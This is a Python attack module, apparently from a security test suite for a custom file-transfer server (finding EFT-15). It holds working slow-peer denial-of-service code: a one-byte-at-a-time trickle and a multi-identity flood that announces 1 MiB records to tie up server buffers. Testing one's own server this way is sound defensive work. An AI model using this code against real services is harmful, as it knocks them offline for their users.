"""A slow peer: keep a connection by sending one byte at a time.

Read timeouts that restart with every byte bound nothing: one byte every ``--interval``
seconds keeps a frame, and so the connection, open for as long as we like, at no cost
to us. A server can bound the whole handshake (ours does: ``--handshake-timeout``), so
by default we first register (free, no proof needed) and trickle a request after the
handshake. ``--no-register`` trickles the first request instead. Success if the
connection is still open after ``--hold`` seconds.

``--protocol 4``: we register an identity of ours (a full handshake) and trickle a
sealed record; with ``--no-register``, the handshake's message 1. Version 4 gives a
whole header the idle (or, mid-upload, read) timeout and a whole payload the read
timeout, and the handshake a deadline from the accept.

``--records`` (version 4): the record-buffer flood. ``--identities`` fresh identities
(registration is free), each with ``--per-identity`` connections, each announcing a
1 MiB record and sending ``--trickle`` bytes of it (0: none), reopening any connection
the server closes, for ``--hold`` seconds. A server that takes one of its few record
buffers as a record header arrives, and keeps it until a read timeout, lets a handful
of such peers stall every upload. Success if no announced record was cut off within
the hold.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os

from eft_protocol.codes import REQUEST_HEADER, RequestCode
from eft_protocol.noise import KeyPair
from eft_protocol.v4.handshake import Offer, hello_header
from eft_protocol.v4.records import FileMeta
from eft_protocol.v4.server import MAX_RECORD_PAYLOAD

from .common import AttackError, ConnectionClosed, Out, ServerLink, own_session
from .framing import name_request
from .v4 import V4Client, add_protocol_argument, login, meta_plaintext, own_identity

FINDING = "EFT-15"
SUMMARY = "slow peer: one byte at a time holds a connection past every timeout"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    parser.add_argument("--hold", type=float, default=10.0, help="seconds to hold (10)")
    parser.add_argument("--interval", type=float, default=1.0, help="seconds between bytes")
    parser.add_argument("--no-register", dest="register", action="store_false")
    parser.add_argument(
        "--records", action="store_true", help="v4: announce 1 MiB records, send almost none"
    )
    parser.add_argument("--identities", type=int, default=3, help="with --records (3)")
    parser.add_argument("--per-identity", type=int, default=4, help="connections each (4)")
    parser.add_argument("--trickle", type=int, default=0, help="record bytes sent (0)")
    add_protocol_argument(parser)


#: The largest record payload a version-4 server takes (one 1 MiB chunk and overhead).
ANNOUNCED = MAX_RECORD_PAYLOAD


async def _announce(client: V4Client, trickle: int) -> None:
    """A record header claiming ANNOUNCED bytes, and ``trickle`` of them."""
    header = REQUEST_HEADER.pack(client.client_id, 4, RequestCode.SEND_FILE, ANNOUNCED)
    client.link.writer.write(header + os.urandom(trickle))
    await client.link.writer.drain()


async def _hold_records(
    target: str, name: str, key: KeyPair, trickle: int, stats: dict[str, int], *, out: Out
) -> None:
    """One connection of the flood: announce, wait until cut, log in again, repeat."""
    while True:
        client, _code = await login(target, name, key)
        try:
            await _announce(client, trickle)
            stats["announced"] += 1
            with contextlib.suppress(ConnectionError, OSError):
                await client.link.reader.read(1)  # returns when the server closes
            stats["cut"] += 1
            if stats["cut"] == 1:
                out.event("cut", "the server closed a connection holding an announced record")
        finally:
            with contextlib.suppress(Exception):
                await client.close()


async def records(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol != 4:
        raise AttackError("--records is a version-4 attack: give --protocol 4")
    stats = {"announced": 0, "cut": 0}
    tasks: list[asyncio.Task[None]] = []
    for i in range(args.identities):
        name = f"buffers-{os.urandom(3).hex()}-{i}"
        own = await own_identity(args.target, name)
        await own.close()
        tasks += [
            asyncio.create_task(
                _hold_records(args.target, name, own.key, args.trickle, stats, out=out)
            )
            for _ in range(args.per_identity)
        ]
    total = args.identities * args.per_identity
    while stats["announced"] < total:
        for task in tasks:
            if task.done():
                task.result()  # a login that failed: say why
        await asyncio.sleep(0.05)
    out.event("holding", f"{total} records of {ANNOUNCED} bytes announced", records=total)
    await asyncio.sleep(args.hold)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return out.result(
        stats["cut"] == 0,
        f"{stats['cut']} of {stats['announced']} announced records were cut off",
        **stats,
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.records:
        return await records(args, out)
    name = f"slow-{os.urandom(3).hex()}"
    if args.protocol == 4 and args.register:
        client = await own_identity(args.target, name)
        link = client.link
        meta = FileMeta(1, 1, os.urandom(16), "slow.txt")  # answered 1604 when it arrives
        frame = client.seal(RequestCode.SEND_FILE, meta_plaintext(meta))
        out.step(f"registered as {name!r} in version 4; the handshake is over")
    elif args.protocol == 4:
        link = await ServerLink.open(args.target)
        frame = hello_header() + os.urandom(32) + Offer().encode()  # answered 1602 on arrival
    elif args.register:
        session = await own_session(args.target, name)
        link, client_id = session.link, session.client_id
        frame = name_request(client_id, RequestCode.CRC_RETRY, "slow.txt")  # answered 1607
        out.step(f"registered as {name!r}; the handshake is over")
    else:
        link = await ServerLink.open(args.target)
        frame = name_request(bytes(16), RequestCode.REGISTER, name)
    loop = asyncio.get_running_loop()
    start = loop.time()
    sent = 0
    while loop.time() - start < args.hold and sent < len(frame) - 1:
        link.writer.write(frame[sent : sent + 1])
        sent += 1
        await asyncio.sleep(args.interval)
        if link.reader.at_eof():
            break
    held = round(loop.time() - start, 2)
    try:
        link.writer.write(frame[sent:])
        answer = (await link.receive(3.0)).code
    except (ConnectionClosed, ConnectionError, OSError):
        answer = None
    except AttackError:
        answer = None
    finally:
        await link.close()
    if answer is None:
        return out.result(False, f"the server closed the connection after {held} s", held=held)
    return out.result(
        True,
        f"held one connection {held} s with {sent} bytes; the server still answered ({answer})",
        held=held,
        bytes=sent,
    )
